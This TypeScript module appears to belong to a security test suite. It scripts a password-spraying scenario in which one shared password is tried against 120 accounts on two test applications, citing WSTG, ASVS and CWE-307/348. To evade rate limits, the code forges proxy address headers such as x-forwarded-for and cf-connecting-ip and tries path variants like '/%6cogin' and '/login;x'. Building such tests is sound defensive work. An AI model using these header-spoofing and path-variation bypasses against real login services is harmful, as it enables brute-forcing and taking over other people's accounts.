/** Guessing one password at many accounts from one place that pretends to be many. */
import type { Attack } from "../attack.ts";
import {
  anotherAddress,
  candidates,
  type Disguise,
  type Guess,
  guessAtLoginForm,
  guessPatiently,
} from "../guessing.ts";
import { ada, elsewhere, victim } from "../people.ts";
import { hour } from "../schedule.ts";
import { theftFrom } from "../theft.ts";

/** Headers in which proxies say where a request came from: anybody can write them. */
const headersOf = (index: number): Record<string, string>[] => {
  const address = anotherAddress(index);
  return [
    { "x-forwarded-for": address },
    { "x-forwarded-for": `${address}, 127.0.0.1` },
    { forwarded: `for=${address}` },
    { "x-real-ip": address, "x-client-ip": address, "true-client-ip": address, "cf-connecting-ip": address },
  ];
};

const paths = ["//login", "/login/", "/./login", "/%6cogin", "/LOGIN", "/login;x", "/login?x=1"];

export const attack: Attack = {
  title: "Guessing many accounts' passwords from one address",
  story:
    "The attacker has one address, one password that many people have, and a list of customers on which the victim is the 120th. They try it at each, and whenever they are told to wait they say in every header proxies use that they are somebody else, spell the path of the login form in every way they know, and go to the other application. One address has 20 guesses, then about 20 an hour.",
  source: "WSTG-ATHN-03, WSTG-ATHN-04; ASVS 6.3.1, 4.1.3; CWE-307, CWE-348",
  promised: { kind: "nothing" },
  asDescribed: "holds",
  control: ["forwarded-address-believed"],
  async run(target) {
    const owner = await victim(target, { remember: true });
    const theft = await theftFrom(target);
    const { store, forum } = target.origins;
    const at =
      (origin: string, disguise: (index: number) => Disguise): Guess =>
      (email, index) =>
        guessAtLoginForm(origin, { email, password: ada.password }, { ...elsewhere, ...disguise(index) });
    const ways = [
      at(store, () => ({})),
      at(forum, () => ({})),
      ...headersOf(0).map((_, way) =>
        at(store, (index) => ({ headers: headersOf(index * 8 + way)[way] ?? {} })),
      ),
      ...headersOf(0).map((_, way) =>
        at(forum, (index) => ({ headers: headersOf(index * 8 + 4 + way)[way] ?? {} })),
      ),
      ...paths.flatMap((path) => [store, forum].map((origin) => at(origin, () => ({ path })))),
    ];
    const list = candidates(ada.email, 120, (index) => `customer${index}@example.com`);
    await guessPatiently(target, theft, { list, ways, until: hour });
    return theft.measured(owner);
  },
};
